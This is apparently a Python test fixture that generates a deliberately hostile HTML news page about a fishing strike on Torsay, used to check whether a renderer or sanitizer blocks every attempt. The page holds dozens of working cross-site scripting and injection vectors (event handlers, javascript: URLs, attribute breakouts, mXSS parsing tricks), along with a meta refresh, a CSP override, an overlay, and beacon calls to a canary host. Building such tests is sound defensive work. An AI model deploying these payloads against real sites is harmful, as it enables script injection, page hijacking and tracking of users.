"""A page that tries everything a page can try, on whoever looks at it."""

from __future__ import annotations

STORY = (
    "Fishing crews on the island of Torsay stayed in harbour on Monday to protest against new"
    " limits on their catch, officials of the port said in report number {n} on the matter."
)


def hostile_page(canary: str) -> bytes:
    """Return a page all of whose attempts show: as a title, a variable, or a call to the canary."""
    call = f"{canary}/called?by="
    owned = f"top.document.title='owned';top.owned=1;parent.owned=1;new Image().src='{call}script'"
    paragraphs = "".join(f"<p>{STORY.format(n=n)}</p>" for n in range(1, 9))
    return f"""<!DOCTYPE html><html lang=en onload="{owned}"><head>
<title>Crews strike on Torsay</title><base href="{canary}/base/" target="_top">
<meta http-equiv="refresh" content="0;url={call}refresh">
<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">
<meta property="og:title" content="Crews &lt;script&gt;{owned}&lt;/script&gt; strike">
<link rel=stylesheet href="{call}stylesheet"><link rel=preload as=image href="{call}preload">
<link rel=prefetch href="{call}prefetch"><link rel=preconnect href="{canary}">
<link rel=icon href="{call}icon"><script src="{call}src"></script><script>{owned}</script>
<style>@import url("{call}import"); @font-face {{font-family: f; src: url("{call}font")}}
* {{background: url("{call}background") !important; font-family: f !important}}
#cover {{position: fixed !important; inset: -5000px !important; z-index: 2147483647 !important;
  background: #fff !important; opacity: 1 !important}}
body::before {{content: url("{call}content")}}
p {{animation: none; cursor: url("{call}cursor"), auto}}
</style></head>
<body onload="{owned}" onpageshow="{owned}" background="{call}body" class='x" onclick="{owned}'>
<div id=cover style="position:fixed;top:-99px;left:-99px;width:9999px;height:9999px;z-index:99999">
</div><article><h1 title='"><img src=x onerror="{owned}">'>Crews strike on Torsay</h1>
{paragraphs}
<p id='"><script>{owned}</script>'>Markup in a name &lt;script&gt;{owned}&lt;/script&gt; and
 &lt;/iframe&gt;&lt;/script&gt;&lt;img src=x onerror={owned}&gt; in the text of a block.</p>
</article>
<img src="{call}img" srcset="{call}srcset 2x" onerror="{owned}" alt='"><script>{owned}</script>'>
<picture><source srcset="{call}source"><img src="{call}picture"></picture>
<svg onload="{owned}"><script>{owned}</script><image href="{call}svg"></image>
<a xlink:href="javascript:{owned}"><text>drawn</text></a>
<foreignObject><p>in svg</p></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={owned}&gt;">
</table></mtext></math>
<noscript><p title="</noscript><img src=x onerror={owned}>">no script</p></noscript>
<template><script>{owned}</script></template>
<iframe src="{call}iframe"></iframe><iframe srcdoc="<script>{owned}</script>"></iframe>
<object data="{call}object"></object><embed src="{call}embed"><applet code="{call}applet"></applet>
<video src="{call}video" poster="{call}poster" autoplay onerror="{owned}"></video>
<audio src="{call}audio" autoplay></audio><input type=image src="{call}input">
<form action="{call}form" id=form><input name=a autofocus onfocus="{owned}"><button>Send it</button>
</form><details open ontoggle="{owned}"><summary>More of it</summary>Hidden words of it.</details>
<p><a id=lead href="javascript:{owned}" ping="{call}ping">A link that runs</a></p>
<p><a href="{call}link" target=_top>A link that leads away</a></p>
<p><a href="data:text/html,<script>{owned}</script>">A link that is a page</a></p>
<x-element onclick="{owned}" style="background:url({call}style)">An element of its own</x-element>
<p style="background-image:url('{call}attribute');display:block" onmouseover="{owned}">Styled</p>
<marquee onstart="{owned}">Moving along</marquee><isindex action="javascript:{owned}">
<textarea autofocus onfocus="{owned}"></textarea><select onfocus="{owned}" autofocus></select>
<table background="{call}table"><tr><td background="{call}cell">A cell of it</td></tr></table>
</div></body></html><!-- --!> <script>{owned}</script> -->""".encode()
